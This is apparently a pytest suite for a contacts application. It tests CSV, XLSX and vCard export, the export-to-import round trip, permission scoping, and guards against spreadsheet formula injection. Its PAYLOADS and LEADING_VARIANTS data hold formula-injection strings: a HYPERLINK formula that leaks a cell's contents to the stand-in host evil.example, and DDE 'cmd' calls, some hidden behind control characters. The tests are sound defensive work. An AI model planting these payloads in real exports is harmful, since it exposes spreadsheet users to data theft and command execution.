"""Exports: CSV and XLSX with the import's columns and the formula guard, the round trip
export -> import, vCard 4 parsed back with vobject, and the scope of what is exported."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
import vobject
from openpyxl import load_workbook

from clientbase.contacts.models import Contact
from clientbase.transfer.exporters import contacts_for_export, csv_stream, export_contacts, write_xlsx
from clientbase.transfer.formulas import clean, restore
from clientbase.transfer.kinds import ContactKind
from clientbase.transfer.readers import open_table
from clientbase.transfer.services import import_file
from clientbase.transfer.vcard import fold, vcard
from tests.factories import ContactFactory
from tests.transfer.conftest import contacts_dump

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "department": "=cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0\nsecond line, with a comma; and a semicolon",
    "salutation": "-2+3",
    "first_name": "+1 312",
}
# Values as the services store them: trimmed, so a leading tab or space never reaches the database
# (the guard handles those too: tests/transfer/test_formulas.py).


@pytest.fixture
def directory(customer_with_two_sites, other_customer):
    customer, north, south = customer_with_two_sites
    return [
        ContactFactory(
            customer=customer,
            external_id="E-1",
            first_name="Mike",
            last_name="Johnson",
            email="mike@northwind.example",
            phone="+13125550142",
            mobile="+13125550199",
            secondary_phone="+442079460018",
            role_site=True,
            role_emergency=True,
            notify_work_orders=True,
            locations=[north, south],
            is_primary=True,
            address={"street": "1 Main St", "city": "Chicago", "postal_code": "60601", "country": "US"},
            title="Facilities Technician",
            department="Facilities",
            preferred_channel="sms",
        ),
        ContactFactory(
            customer=customer,
            first_name="Susan",
            last_name="Williams",
            email="susan@northwind.example",
            role_approver=True,
            approval_limit=Decimal("25000.00"),
            portal_enabled=True,
            portal_permissions=["billing", "edit_contacts"],
            support_start=datetime.date(2026, 1, 1),
            support_end=datetime.date(2026, 12, 31),
            status="inactive",
            locations=[north],
        ),
        ContactFactory(customer=customer, external_id="E-3", email="", **PAYLOADS),
        ContactFactory(customer=None, first_name="Free", last_name="Lancer", email="free@example.com"),
        ContactFactory(
            customer=other_customer, first_name="Robert", last_name="Taylor", email="rt@contoso.example"
        ),
    ]


def export(user, fmt="csv", **params) -> bytes:
    out = io.BytesIO()
    export_contacts(contacts_for_export(user, params), fmt, out)
    return out.getvalue()


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_export_has_the_import_columns_and_guards_formulas(admin_user, directory):
    data = export(admin_user)
    assert data.startswith("\ufeff".encode())
    rows = csv_rows(data)
    assert rows[0] == list(ContactKind.columns)
    assert len(rows) == 1 + len(directory)
    by_name = {row[rows[0].index("last_name")]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    mike = by_name["Johnson"]
    assert mike["customer"] == directory[0].customer.number
    assert mike["phone"] == "'+13125550142"
    assert mike["roles"] == "site, emergency"
    assert mike["locations"] == "N, S"
    assert (mike["is_primary"], mike["notify_work_orders"], mike["address_city"]) == (
        "true",
        "true",
        "Chicago",
    )
    susan = by_name["Williams"]
    assert (susan["approval_limit"], susan["portal_permissions"]) == ("25000.00", "billing, edit_contacts")
    assert (susan["portal_support_start"], susan["status"]) == ("2026-01-01", "inactive")
    guarded = next(row for row in by_name.values() if row["external_id"] == "E-3")
    for column, payload in PAYLOADS.items():
        assert guarded[column] == "'" + payload
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_importing_our_own_export_restores_every_value_and_changes_nothing(admin_user, directory, fmt):
    data = export(admin_user, fmt)
    before = contacts_dump()
    report = import_file(
        acting_user=admin_user, kind="contacts", file=io.BytesIO(data), dry_run=False
    ).as_dict()
    assert report == {"dry_run": False, "created": 0, "updated": 0, "unchanged": len(directory), "errors": []}
    assert contacts_dump() == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_into_an_empty_database_recreates_the_contacts_exactly(admin_user, directory, fmt):
    fields = [
        f.name
        for f in Contact._meta.concrete_fields
        if f.name
        not in (
            "id",
            "version",
            "created_at",
            "updated_at",
            "user",
            "phone_digits",
            "email_status",
            "last_verified_at",
        )
    ]

    def snapshot():
        return sorted(
            (
                tuple(str(getattr(c, name)) for name in fields),
                tuple(sorted(loc.pk for loc in c.locations.all())),
            )
            for c in Contact.objects.all()
        )

    expected = snapshot()
    data = export(admin_user, fmt)
    Contact.objects.all().delete()
    report = import_file(acting_user=admin_user, kind="contacts", file=io.BytesIO(data), dry_run=False)
    assert (report.created, report.errors) == (len(directory), [])
    assert snapshot() == expected


def test_xlsx_export_cells_are_typed_strings_shown_as_stored(admin_user, directory):
    data = export(admin_user, "xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == list(ContactKind.columns)
    by_id = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}  # by external_id
    for column, payload in PAYLOADS.items():  # shown as typed, never run: no quote needed
        assert by_id["E-3"][column] == payload
    assert (by_id["E-1"]["phone"], by_id["E-1"]["mobile"]) == ("+13125550142", "+13125550199")
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
    assert not FORMULA_ELEMENT.search(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))


def test_exports_only_what_the_user_may_see_filtered_like_the_list(
    admin_user, directory, portal_user_factory
):
    customer = directory[0].customer
    assert len(csv_rows(export(admin_user, customer=str(customer.pk)))) == 1 + 3
    assert len(csv_rows(export(admin_user, role="approver"))) == 2
    assert len(csv_rows(export(admin_user, search="johnson"))) == 2
    portal = portal_user_factory(customer, permissions=["edit_contacts"], email="me@example.com")
    rows = csv_rows(export(portal))
    names = {row[rows[0].index("last_name")] for row in rows[1:]}
    assert "Taylor" not in names and "Lancer" not in names and "Johnson" in names


def test_vcards_parse_back_with_vobject(admin_user, directory):
    data = export(admin_user, "vcf").decode()
    cards = list(vobject.readComponents(data))
    assert len(cards) == len(directory)
    mike = next(card for card in cards if card.fn.value == "Mike Johnson")
    assert mike.version.value == "4.0"
    assert (mike.n.value.family, mike.n.value.given) == ("Johnson", "Mike")
    assert mike.org.value == ["Northwind Hospitals", "Facilities"]
    assert mike.title.value == "Facilities Technician"
    assert mike.email.value == "mike@northwind.example"
    phones = {(tuple(tel.params["TYPE"]), tel.value) for tel in mike.tel_list}
    assert phones == {
        (("work",), "tel:+13125550142"),
        (("cell",), "tel:+13125550199"),
        (("voice",), "tel:+442079460018"),
    }
    assert all(tel.params["VALUE"] == ["uri"] for tel in mike.tel_list)
    assert (mike.adr.value.street, mike.adr.value.city, mike.adr.value.code) == (
        "1 Main St",
        "Chicago",
        "60601",
    )
    guarded = next(card for card in cards if hasattr(card, "title") and card.title.value == PAYLOADS["title"])
    assert guarded.note.value == PAYLOADS["notes"]
    assert data.count("\r\n") > 10


def test_long_vcard_lines_are_folded_without_splitting_letters(customer_with_two_sites):
    contact = ContactFactory(customer=customer_with_two_sites[0], notes="Ünïcödé " * 40)
    text = vcard(contact)
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert vobject.readOne(text).note.value == contact.notes
    assert fold("x" * 75) == "x" * 75


def test_exports_leave_out_control_characters_no_cell_can_hold(admin_user, customer_with_two_sites):
    contact = ContactFactory(customer=customer_with_two_sites[0])
    Contact.objects.filter(pk=contact.pk).update(notes="bell\x07 and\ttab\nnewline")  # stored before
    workbook = load_workbook(io.BytesIO(export(admin_user, "xlsx")), read_only=True)
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    assert rows[1][list(ContactKind.columns).index("notes")] == "bell and\ttab\nnewline"
    assert csv_rows(export(admin_user, "csv"))[1][-1] == "bell and\ttab\nnewline"


# Formula injection through characters before the formula -----------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
LEADING_VARIANTS = {
    "control character": "\x01" + FORMULA,
    "tab": "\t" + FORMULA,
    "carriage return": "\r" + FORMULA,
    "space": " " + FORMULA,
    "NUL before plus": "\x00+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "equals": FORMULA,
    "zero-width space": "\u200b" + FORMULA,
}
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s/>]")


def xlsx_of(rows) -> bytes:
    out = io.BytesIO()
    write_xlsx(rows, out)
    return out.getvalue()


def read_back(data: bytes) -> str:
    """What an import reads from the file's first cell below the header."""
    table = open_table(io.BytesIO(data))
    return restore(next(table.records())[1][0])


@pytest.mark.parametrize("text", LEADING_VARIANTS.values(), ids=LEADING_VARIANTS.keys())
def test_xlsx_writes_every_text_as_a_string_cell_never_a_formula(text):
    data = xlsx_of([["notes"], [text]])
    assert not FORMULA_ELEMENT.search(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
    cell = load_workbook(io.BytesIO(data)).worksheets[0]["A2"]
    shown = clean(text).replace("\r", "\n")  # XML reads a carriage return as a line feed
    assert cell.data_type == "s"
    assert cell.value == shown
    assert read_back(data) == shown


@pytest.mark.parametrize("text", LEADING_VARIANTS.values(), ids=LEADING_VARIANTS.keys())
def test_csv_guards_the_formula_behind_any_leading_character(text):
    data = b"".join(csv_stream([["notes"], [text]]))
    cell = csv_rows(data)[1][0]
    assert cell == "'" + clean(text)
    assert "\x00" not in cell and "\x01" not in cell
    assert read_back(data) == clean(text)


def test_the_contacts_export_guards_formulas_stored_with_a_control_character_before_them(
    api, dispatcher, customer_with_two_sites
):
    contact = ContactFactory(customer=customer_with_two_sites[0], phone="+13125550142")
    Contact.objects.filter(pk=contact.pk).update(title="\x01" + FORMULA)  # stored before it was refused
    response = api(dispatcher).get("/api/v1/exports/contacts/", {"format": "xlsx"})
    data = b"".join(response.streaming_content)
    assert not FORMULA_ELEMENT.search(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    title, phone = sheet.cell(2, header.index("title") + 1), sheet.cell(2, header.index("phone") + 1)
    assert (title.value, title.data_type) == (FORMULA, "s")
    assert (phone.value, phone.data_type) == ("+13125550142", "s")  # no quote before phone numbers
    rows = csv_rows(b"".join(api(dispatcher).get("/api/v1/exports/contacts/").streaming_content))
    assert rows[1][rows[0].index("title")] == "'" + FORMULA
    assert rows[1][rows[0].index("phone")] == "'+13125550142"
